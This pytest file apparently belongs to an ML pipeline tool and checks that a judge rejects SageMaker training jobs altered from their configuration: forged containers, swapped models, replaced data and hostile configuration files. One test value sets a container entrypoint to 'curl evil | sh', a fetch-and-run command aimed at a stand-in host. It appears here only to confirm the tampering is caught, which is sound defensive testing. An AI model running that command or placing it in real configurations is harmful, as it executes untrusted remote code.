"""The judge against a run as AWS tells of it: what passes, what it writes, and what somebody else tries."""

import hashlib
import io
import json
import zipfile
from typing import Any

import pytest

from tests.payload.judged import (
    ACTIONS,
    BUCKET,
    COMMIT,
    HANDED_KEY,
    KMS_KEY,
    MANIFEST,
    MODEL_KEY,
    RECORD_KEY,
    SOURCE_KEY,
    RunToJudge,
    stored,
)
from tests.payload.pipeline import JOB, RUN
from xacct_ml.payload.job import JobFailed

DIGEST = hashlib.sha256(b"model").hexdigest()


# -- judge -------------------------------------------------------------------------------------------------------------
def test_a_model_that_passes_is_stored_and_recorded() -> None:
    """The output variables are what approver and deployment compare with."""
    run = RunToJudge()
    variables = run.judge()["outputVariables"]
    assert run.s3.content(BUCKET, f"judged/{DIGEST}/model.tar.gz") == b"model"
    record = run.s3.objects[BUCKET, RECORD_KEY][0]
    assert record.encryption == ("aws:kms", KMS_KEY)
    assert variables == {
        "Outcome": "passed",
        "TrainingJob": JOB,
        "ModelDigest": DIGEST,
        "ContainerVersion": "1.7-1",
        "RecordKey": RECORD_KEY,
        "RecordDigest": hashlib.sha256(record.content).hexdigest(),
    }


def test_the_record_says_what_was_trained() -> None:
    """From the services, and with room for what later judges."""
    run = RunToJudge()
    run.judge()
    record = run.record()
    assert (record["schema"], record["pipelineExecutionId"], record["commit"]) == ("xacct-ml/evaluation/3", RUN, COMMIT)
    assert record["gate"]["outcome"] == "passed"
    assert record["model"]["source"] == {"key": MODEL_KEY, "versionId": "v1"}
    expected = {"num_round": "100", "eta": "0.2", "eval_metric": "auc", "objective": "binary:logistic"}
    assert record["hyperparameters"] == expected
    assert record["containerVersion"] == "1.7-1"


def test_a_missed_gate_is_recorded_and_fails_the_action() -> None:
    """Its model is not stored."""
    run = RunToJudge({"GateThreshold": "0.95"})
    with pytest.raises(JobFailed, match=r"missed: validation:auc is 0\.9, required is at least 0\.95"):
        run.judge()
    assert (run.record()["gate"]["outcome"], run.record()["model"]) == ("missed", None)
    assert not [key for _, key in run.s3.objects if key.startswith("judged/")]


@pytest.mark.parametrize("metrics", [[], [{"MetricName": "validation:auc", "Value": float("nan")}]])
def test_a_metric_that_was_not_reported_fails_with_what_to_do(metrics: list[dict[str, Any]]) -> None:
    """And no record has a number that JSON has not."""
    run = RunToJudge()
    run.training.job["FinalMetricDataList"] = metrics
    with pytest.raises(JobFailed, match=r"reported no validation:auc.*eval_metric"):
        run.judge()
    assert run.record()["gate"]["value"] is None


def test_the_same_judgement_twice_is_one() -> None:
    """A duplicate delivery, or a retried action, finds its own record."""
    run = RunToJudge()
    assert run.judge() == run.judge()
    assert len(run.s3.objects[BUCKET, RECORD_KEY]) == 1


def test_a_record_that_says_something_else_is_never_replaced() -> None:
    """Whoever wrote it: the run fails."""
    run = RunToJudge()
    run.s3.put(BUCKET, RECORD_KEY, b"{}")
    with pytest.raises(JobFailed, match="already there and says something else"):
        run.judge()
    assert run.s3.content(BUCKET, RECORD_KEY) == b"{}"


FORGERIES: dict[str, dict[str, Any]] = {
    "AlgorithmSpecification.ContainerEntrypoint": {"ContainerEntrypoint": ["/bin/sh", "-c", "curl evil | sh"]},
    "AlgorithmSpecification.ContainerArguments": {"ContainerArguments": ["--evil"]},
    "AlgorithmSpecification.TrainingImage is": {"TrainingImage": "evil:latest"},
    "AlgorithmSpecification.TrainingInputMode": {"TrainingInputMode": "Pipe"},
}


@pytest.mark.parametrize(("said", "changed"), FORGERIES.items(), ids=FORGERIES)
def test_another_container_is_noticed(said: str, changed: dict[str, Any]) -> None:
    """The template is the pusher's; what SageMaker ran is not."""
    run = RunToJudge()
    run.training.job["AlgorithmSpecification"] |= changed
    refused(run, said)


@pytest.mark.parametrize(
    ("regex", "known"),
    [
        (r".*\[[0-9]+\].*#011validation-auc:(\S+)", True),
        (r".*\[[0-9]+\].*#011validation-auc:([-+]?[0-9]*\.?[0-9]+(?:[eE][-+]?[0-9]+)?).*", True),
        (r".*\[[0-9]+\].*#011train-auc:(\S+)", False),
        (r".*\[[0-9]+\].*#011validation-auc:(\S+)|train-auc:(\S+)", False),
        (r".*\[([0-9]+)\].*#011validation-auc:(\S+)", False),
        ("", False),
    ],
)
def test_the_gates_metric_is_found_where_the_container_writes_it(regex: str, known: bool) -> None:
    """SageMaker's own definitions are shown with every job; another one would count any number of the log."""
    run = RunToJudge()
    definitions = [{"Name": "train:rmse", "Regex": "anything"}, {"Name": "validation:auc", "Regex": regex}]
    run.training.job["AlgorithmSpecification"]["MetricDefinitions"] = definitions
    if known:
        assert run.judge()["outputVariables"]["Outcome"] == "passed"
    else:
        refused(run, "AlgorithmSpecification.MetricDefinitions finds validation:auc by")


JOBS: dict[str, tuple[str, Any]] = {
    "network": ("EnableNetworkIsolation", False),
    "role": ("RoleArn", "arn:aws:iam::222222222222:role/other"),
    "hyperparameters": ("HyperParameters", {"num_round": "1"}),
    "environment": ("Environment", {"A": "b"}),
    "network of its own": ("VpcConfig", {"Subnets": ["s"], "SecurityGroupIds": ["g"]}),
    "debugger": ("RemoteDebugConfig", {"EnableRemoteDebug": True}),
    "checkpoints": ("CheckpointConfig", {"S3Uri": f"s3://{BUCKET}/models/other/output/"}),
    "checkpoints of its own": ("CheckpointConfig", {"S3Uri": f"s3://{BUCKET}/checkpoints/{JOB}/"}),
    "output": ("OutputDataConfig", {"S3OutputPath": f"s3://{BUCKET}/models/x/", "KmsKeyId": KMS_KEY}),
    "instances": ("ResourceConfig", {"InstanceType": "ml.p5.48xlarge", "InstanceCount": 64, "VolumeSizeInGB": 10}),
    "run time": ("StoppingCondition", {"MaxRuntimeInSeconds": 2_419_200}),
    "model": ("ModelArtifacts", {"S3ModelArtifacts": f"s3://{BUCKET}/models/good/output/model.tar.gz"}),
    "status": ("TrainingJobStatus", "Stopped"),
    "spot": ("EnableManagedSpotTraining", True),
    "a wait": ("StoppingCondition", {"MaxRuntimeInSeconds": 3600, "MaxWaitTimeInSeconds": 7200}),
    "rules of a debugger": ("DebugRuleConfigurations", [{"RuleEvaluatorImage": "evil:latest"}]),
    "rules of a profiler": ("ProfilerRuleConfigurations", [{"RuleEvaluatorImage": "evil:latest"}]),
    "profiles": ("ProfilerConfig", {"S3OutputPath": f"s3://{BUCKET}/models/"}),
    "tracking": ("MlflowConfig", {"MlflowResourceArn": "arn:aws:sagemaker:us-east-1:666666666666:mlflow-app/a"}),
    "tuning": ("TuningJobArn", "arn:aws:sagemaker:us-east-1:222222222222:hyper-parameter-tuning-job/t"),
}


@pytest.mark.parametrize(("member", "value"), JOBS.values(), ids=JOBS)
def test_any_other_difference_is_noticed(member: str, value: Any) -> None:
    """And named, with what was expected."""
    run = RunToJudge()
    run.training.job[member] = value
    refused(run, member)


SPOT = {
    "EnableManagedSpotTraining": True,
    "StoppingCondition": {"MaxRuntimeInSeconds": 3600, "MaxWaitTimeInSeconds": 7200},
}


def test_a_spot_training_is_judged_where_the_map_has_it() -> None:
    """With exactly the wait that the map allows, and with no checkpoint to begin with."""
    run = RunToJudge(settings={"maxWaitSeconds": 7200})
    refused(run, "EnableManagedSpotTraining is 0, expected True")
    run.training.job |= SPOT
    run.training.job["StoppingCondition"]["MaxWaitTimeInSeconds"] = 8000
    refused(run, "StoppingCondition.MaxWaitTimeInSeconds is 8000, expected 7200")
    run.training.job["StoppingCondition"]["MaxWaitTimeInSeconds"] = 7200
    run.training.job["CheckpointConfig"] = {"S3Uri": f"s3://{BUCKET}/checkpoints/{JOB}/"}
    refused(run, "CheckpointConfig is ")
    del run.training.job["CheckpointConfig"]
    assert run.judge()["outputVariables"]["Outcome"] == "passed"


def test_what_the_template_switches_off_is_no_difference() -> None:
    """As the template asks for it, and as SageMaker may show it."""
    run = RunToJudge()
    run.training.job |= {"ProfilerConfig": {"DisableProfiler": True}, "ProfilingStatus": "Disabled"}
    run.training.job |= {"RetryStrategy": {"MaximumRetryAttempts": 2}, "DebugRuleConfigurations": []}
    assert run.judge()["outputVariables"]["Outcome"] == "passed"


@pytest.mark.parametrize(
    ("channel", "distribution"), [(0, "FullyReplicated"), (0, None), (1, "ShardedByS3Key")], ids=str
)
def test_data_that_are_divided_otherwise_are_noticed(channel: int, distribution: str | None) -> None:
    """All of them on each instance are the same work done twice; a share of the validation data is another metric."""
    run = RunToJudge()
    source = run.training.job["InputDataConfig"][channel]["DataSource"]["S3DataSource"]
    source["S3DataDistributionType"] = distribution
    refused(run, f"InputDataConfig.{('train', 'validation')[channel]}.DataSource")


def test_data_that_the_container_divides_itself_are_on_each_instance() -> None:
    """With Dask."""
    gpu = {"InstanceType": "ml.g4dn.xlarge", "UseDaskGpuTraining": "true", "TreeMethod": "gpu_hist"}
    given, allowed = {**gpu, "InstanceCount": "2"}, {"instanceTypes": ["ml.g4dn.xlarge"]}
    assert RunToJudge(given, allowed=allowed).invoke("check")["outputVariables"]["ManifestVersionId"] == "v1"
    run = RunToJudge(given, allowed=allowed)
    job = run.training.job
    job["HyperParameters"] |= {"use_dask_gpu_training": "true", "tree_method": "gpu_hist"}
    job["ResourceConfig"] |= {"InstanceType": "ml.g4dn.xlarge", "InstanceCount": 2}
    refused(run, "InputDataConfig.train.DataSource")
    job["InputDataConfig"][0]["DataSource"]["S3DataSource"]["S3DataDistributionType"] = "FullyReplicated"
    assert run.judge()["outputVariables"]["Outcome"] == "passed"


def test_data_that_were_put_beside_are_noticed() -> None:
    """A channel that reads a prefix, or another data set's manifest, or is one too many."""
    run = RunToJudge()
    source = run.training.job["InputDataConfig"][0]["DataSource"]["S3DataSource"]
    source |= {"S3DataType": "S3Prefix", "S3Uri": f"s3://{BUCKET}/data/"}
    refused(run, "InputDataConfig.train.DataSource")
    run = RunToJudge()
    run.training.job["InputDataConfig"][0]["ShuffleConfig"] = {"Seed": 1}
    refused(run, "InputDataConfig.train.ShuffleConfig is {'Seed': 1}, expected none")
    run = RunToJudge()
    run.training.job["InputDataConfig"].append({"ChannelName": "code"})
    refused(run, "InputDataConfig has the channels")
    run = RunToJudge()
    run.training.job["InputDataConfig"].pop()
    refused(run, "InputDataConfig has the channels")


def test_what_the_training_account_wrote_is_quoted_with_bounds() -> None:
    """Neither line breaks nor a megabyte reach the pipeline's reason."""
    run = RunToJudge()
    run.training.job["AlgorithmSpecification"]["TrainingImage"] = "x\n" * 100_000
    with pytest.raises(JobFailed) as failed:
        run.judge()
    assert "\n" not in str(failed.value)
    assert len(str(failed.value)) < 1000


def test_a_swapped_model_is_noticed() -> None:
    """Between training and judgement."""
    run = RunToJudge()
    run.s3.put(BUCKET, MODEL_KEY, b"evil")
    with pytest.raises(JobFailed, match="was written to after the training job stored the model"):
        run.judge()
    assert (BUCKET, RECORD_KEY) not in run.s3.objects


def test_data_that_were_replaced_are_noticed() -> None:
    """Who may delete may store something else under the same key."""
    run = RunToJudge()
    run.s3.put(BUCKET, "data/0123456789abcdef/train/train.csv", b"1,1")
    refused(run, "the data of train are data/0123456789abcdef/train/train.csv in version v2, expected v1")
    run = RunToJudge()
    run.s3.put(BUCKET, "holdout/0123456789abcdef/labels.csv", b"1")
    refused(run, "the rows held out are holdout/0123456789abcdef/labels.csv in version v2, expected v1")
    run = RunToJudge()
    del run.s3.objects[BUCKET, "data/0123456789abcdef/validation/validation.csv"]
    refused(run, "the data of validation are data/0123456789abcdef/validation/validation.csv in version none")


@pytest.mark.parametrize(
    "content",
    [
        f'[{{"prefix": "s3://{BUCKET}/data/0123456789abcdef/train/"}}, "train.csv", "more.csv"]'.encode(),
        f'[{{"prefix": "s3://{BUCKET}/models/"}}, "train.csv"]'.encode(),
        b"[" * 100_000,
        b"",
    ],
)
def test_a_channels_manifest_file_that_names_other_objects_is_noticed(content: bytes) -> None:
    """The job reads what it names, wherever that lies."""
    run = RunToJudge()
    run.s3.put(BUCKET, "data/0123456789abcdef/train.manifest", content)
    refused(run, f"s3://{BUCKET}/data/0123456789abcdef/train.manifest names")


def test_a_channels_manifest_file_that_is_gone_is_noticed() -> None:
    """What the job read, nobody knows then."""
    run = RunToJudge()
    del run.s3.objects[BUCKET, "data/0123456789abcdef/validation.manifest"]
    refused(run, "names 'nothing: it is not there'")


def test_an_invocation_by_hand_judges_nothing() -> None:
    """No action in progress asks for it."""
    run = RunToJudge()
    with pytest.raises(JobFailed, match="was not started, not InProgress"):
        run.function.reply({"task": "judge", "pipelineExecutionId": RUN}, {})
    assert run.s3.writes == []


def test_an_execution_that_did_not_succeed_is_not_judged() -> None:
    """Whatever the training job is."""
    run = RunToJudge()
    run.training.status = "RUNNING"
    with pytest.raises(JobFailed, match="is RUNNING, not SUCCEEDED"):
        run.judge()


def refused(run: RunToJudge, said: str) -> None:
    """The judgement names it, and nothing was written."""
    with pytest.raises(JobFailed, match="is not what was to be trained") as failed:
        run.judge()
    assert said in str(failed.value)
    assert run.s3.writes == []


# -- check -------------------------------------------------------------------------------------------------------------
def test_a_configuration_within_the_map_pins_the_data() -> None:
    """The run trains on the version of the manifest that there was."""
    run = RunToJudge({"GateThreshold": "0.85", "InstanceType": "ml.m5.xlarge", "InstanceCount": "2"})
    in_parts(run, 2)
    assert run.invoke("check")["outputVariables"] == {
        "TemplateVersion": "5",
        "DataSet": "0123456789abcdef",
        "ManifestVersionId": "v2",
        "SourceObject": "churn/Source/abc.zip?versionId=v1",
    }


def in_parts(run: RunToJudge, count: int) -> None:
    """The training data are in so many objects."""
    train = {**MANIFEST["channels"]["train"], "objects": [stored(f"train/{place}") for place in range(count)]}
    manifest = {**MANIFEST, "channels": {**MANIFEST["channels"], "train": train}}
    run.s3.put(BUCKET, "data/manifest.json", json.dumps(manifest).encode())


@pytest.mark.parametrize("parts", [None, 1])
def test_an_instance_without_training_data_is_refused_before_it_is_paid_for(parts: int | None) -> None:
    """With what to do, of the data or of the configuration."""
    run = RunToJudge({"InstanceCount": "2"})
    if parts:
        in_parts(run, parts)
    said = r"2 instances train on parts of their own, and the training data have 1 part\. Set .* or run xacct-ml"
    with pytest.raises(JobFailed, match=said):
        run.invoke("check")


def test_what_one_instance_alone_can_train_is_refused_for_several() -> None:
    """XGBoost grows no exact trees on several instances."""
    run = RunToJudge({"InstanceCount": "2", "TreeMethod": "exact"})
    in_parts(run, 2)
    with pytest.raises(JobFailed, match=r"TreeMethod: the tree method exact is for one instance"):
        run.invoke("check")


def test_an_older_template_is_refused_with_the_command() -> None:
    """Release 8e7c681's had no version."""
    with pytest.raises(JobFailed, match=r"has version 1; .* Run: xacct-ml configure --push"):
        RunToJudge(template="Resources: {}\n").invoke("check")


def test_all_faults_are_told_at_once() -> None:
    """Up to ten of them."""
    many = {"InstanceType": "ml.p5.48xlarge", "InstanceCount": "64", "GateThreshold": "0.1", "Eta": "2"}
    with pytest.raises(JobFailed) as failed:
        RunToJudge(many).invoke("check")
    for word in ("ml.p5.48xlarge", "64", "may only be made stricter", "Eta"):
        assert word in str(failed.value)


HOSTILE: dict[str, bytes] = {
    "no JSON": b"{",
    "deep": b"[" * 100_000,
    "no object": b"[]",
    "not UTF-8": b"\xff\xfe{",
    "too large": b" " * 200_000,
    "huge number": b'{"Parameters": {"NumRound": ' + b"9" * 5000 + b"}}",
    "another section": json.dumps({"Parameters": {}, "StackPolicy": {}}).encode(),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_configuration_is_a_failure_with_a_reason(content: bytes) -> None:
    """Never a traceback, and never more than a line."""
    run = RunToJudge()
    run.put_source({"template.yaml": "Metadata:\n  xacct-ml:\n    TemplateVersion: 5\n", "configuration.json": content})
    with pytest.raises(JobFailed, match=r"configuration\.json") as failed:
        run.invoke("check")
    assert failed.value.kind == "ConfigurationError"
    assert len(str(failed.value)) < 1000


def test_a_source_that_is_no_zip_or_lacks_a_file_says_so() -> None:
    """Both are the pusher's to mend."""
    run = RunToJudge()
    run.s3.put(BUCKET, "churn/Source/abc.zip", b"no zip")
    with pytest.raises(JobFailed, match="cannot be read: BadZipFile"):
        run.invoke("check")
    run.put_source({"template.yaml": "x"})
    with pytest.raises(JobFailed, match="has version 1"):
        run.invoke("check")
    run.put_source({"configuration.json": "{}"})
    with pytest.raises(JobFailed, match=r"no template\.yaml at its top"):
        run.invoke("check")


def test_an_artifact_elsewhere_is_not_read() -> None:
    """Only where this pipeline keeps its own."""
    with pytest.raises(JobFailed, match="not one of this pipeline's"):
        RunToJudge().invoke("check", key="data/manifest.json")


def test_withdrawn_data_are_not_trained_on() -> None:
    """Whatever started the run: who, when and why is said; a damaged note is one, too."""
    run = RunToJudge()
    note = {"by": "arn:ann", "when": "2026-03-02T00:00:00Z", "reason": "rows leaked"}
    run.s3.put(BUCKET, "withdrawn/0123456789abcdef.json", json.dumps(note).encode())
    with pytest.raises(
        JobFailed, match=r"was withdrawn by arn:ann at 2026-03-02T00:00:00Z: rows leaked\. Run: .*data restore"
    ):
        run.invoke("check")
    run.s3.put(BUCKET, "withdrawn/0123456789abcdef.json", b"{")
    with pytest.raises(JobFailed, match="a note that cannot be read"):
        run.invoke("check")


def test_without_a_data_set_the_command_is_named() -> None:
    """Nothing was uploaded yet, or by an older release."""
    run = RunToJudge()
    run.s3.put(BUCKET, "data/manifest.json", b'{"schema": "xacct-ml/manifest/1"}')
    with pytest.raises(JobFailed, match="Run: xacct-ml upload-data"):
        run.invoke("check")


# -- hand-over ---------------------------------------------------------------------------------------------------------
def test_a_handed_over_source_is_the_accounts_own() -> None:
    """The same bytes, under the pipeline's key."""
    run = RunToJudge(hands_over=True)
    run.invoke("hand-over")
    (stored,) = run.s3.objects[BUCKET, "churn/Template/def.zip"]
    assert stored.encryption == ("aws:kms", KMS_KEY)
    with zipfile.ZipFile(io.BytesIO(stored.content)) as opened:
        assert sorted(opened.namelist()) == ["configuration.json", "template.yaml"]


def test_a_source_that_is_written_over_before_it_is_handed_over_is_not_taken() -> None:
    """What the other account's source action did not write is in no commit."""
    run = RunToJudge(hands_over=True)
    run.s3.put(BUCKET, f"{SOURCE_KEY}.other", b"somebody else's")
    run.invoke("hand-over")
    run.s3.put(BUCKET, SOURCE_KEY, run.s3.content(BUCKET, SOURCE_KEY))
    with pytest.raises(JobFailed, match=r"was written to after the source action: versions v1 of 2026.*, v2 of"):
        run.invoke("hand-over")


def test_a_source_that_is_written_over_after_it_was_handed_over_is_noticed() -> None:
    """The other account's source action may write artifacts, and so may who holds its role."""
    run = RunToJudge(hands_over=True)
    made = run.invoke("hand-over")["outputVariables"]
    run.pipeline.add(ACTIONS["hand-over"], variables=made)
    assert run.invoke("check", key=HANDED_KEY)["outputVariables"]["SourceObject"] == made["SourceObject"]
    run.s3.put(BUCKET, HANDED_KEY, run.s3.content(BUCKET, SOURCE_KEY))
    with pytest.raises(JobFailed, match=r"was churn/Template/def\.zip\?versionId=v1 in HandOver/Source"):
        run.invoke("check", key=HANDED_KEY)


def test_a_source_that_is_written_over_after_its_check_is_not_judged_by() -> None:
    """Not even by the same bytes; and nothing is recorded."""
    run = RunToJudge()
    run.s3.put(BUCKET, SOURCE_KEY, run.s3.content(BUCKET, SOURCE_KEY))
    with pytest.raises(JobFailed, match=r"the source is .*v2, and was .*v1 in Check/Configuration"):
        run.judge()
    assert run.s3.writes == []


def test_another_runs_source_in_the_event_is_not_judged_by() -> None:
    """Whoever invokes the function while the action is in progress records no verdict by another gate."""
    run = RunToJudge({"GateThreshold": "0.95"})
    laxer = RunToJudge().s3.content(BUCKET, SOURCE_KEY)
    run.s3.put(BUCKET, "churn/Source/other.zip", laxer)
    with pytest.raises(JobFailed, match=r"the source is churn/Source/other\.zip"):
        run.judge("churn/Source/other.zip")
    assert run.s3.writes == []
